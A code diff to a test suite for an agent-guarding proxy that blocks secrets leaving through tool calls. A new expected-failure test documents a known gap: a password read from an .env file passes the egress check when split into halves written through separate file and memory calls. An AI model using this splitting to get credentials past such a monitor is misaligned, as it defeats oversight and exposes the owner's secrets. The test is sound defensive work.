@@ -119,7 +119,11 @@ def _upstreams(
 
 @asynccontextmanager
 async def real_setup(
-    harness: Harness, *servers: str, web: Any = None, elicit: Any = None
+    harness: Harness,
+    *servers: str,
+    web: Any = None,
+    elicit: Any = None,
+    flags: tuple[str, ...] = (),
 ) -> AsyncIterator[Setup]:
     proj = _project(harness)
     proxy = f"http://127.0.0.1:{web.server_address[1]}" if web else "http://127.0.0.1:9"
@@ -129,7 +133,7 @@ async def real_setup(
         for name in servers:
             cmd, pol = ups[name]
             policy = harness.policy({"version": 1, **pol}, name=f"policy-{name}.yaml")
-            pin = ["--pin-file", str(harness.tmp / f"pin-{name}.json")]
+            pin = ["--pin-file", str(harness.tmp / f"pin-{name}.json"), *flags]
             env = {"MEMORY_FILE_PATH": str(harness.tmp / "memory.jsonl")}
             params = harness.cordon(cmd, policies=[policy], name=name, extra=pin, env=env)
             client = Client(params, mode="legacy", elicitation_callback=elicit)
@@ -380,6 +384,29 @@ async def test_credential_from_an_env_line_is_refused_everywhere(
         ok, text = await s.call("fetch", "fetch", {"url": f"http://docs.example.org/?q={PASSWORD}"})
         assert not ok and "secret.egress" in text, text
     assert not any(PASSWORD in url for url in web.seen), web.seen
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a secret seen in output is matched whole or in pieces within one text; its "
+    "halves (8 characters each, or a 12-character prefix) in separate calls pass, also to "
+    "the server that read it from the file",
+)
+async def test_secret_split_over_calls_stays_in(harness: Harness) -> None:
+    async with real_setup(harness, "files", "memory", flags=("--content", "monitor")) as s:
+        (s.proj / ".env").write_text(f"DB_PASSWORD={PASSWORD}\n", "utf-8")
+        ok, text = await s.call("files", "read_text_file", {"path": str(s.proj / ".env")})
+        assert ok and PASSWORD in text  # monitor mode: the agent reads it as it is
+        for i, piece in enumerate((PASSWORD[:8], PASSWORD[8:])):
+            out = {"path": str(s.proj / f"part{i}.txt"), "content": piece}
+            await s.call("files", "write_file", out)
+            entity = {"name": f"part{i}", "entityType": "note", "observations": [piece]}
+            await s.call("memory", "create_entities", {"entities": [entity]})
+    stored = harness.tmp / "memory.jsonl"
+    memory = stored.read_text("utf-8") if stored.exists() else ""
+    written = "".join(p.read_text("utf-8") for p in sorted(s.proj.glob("part*.txt")))
+    assert not (PASSWORD[:8] in memory and PASSWORD[8:] in memory), memory
+    assert written != PASSWORD, "both halves written back through the server that read it"
 
 
 # --- cordon's own state, written through a server it guards ---------------------------------
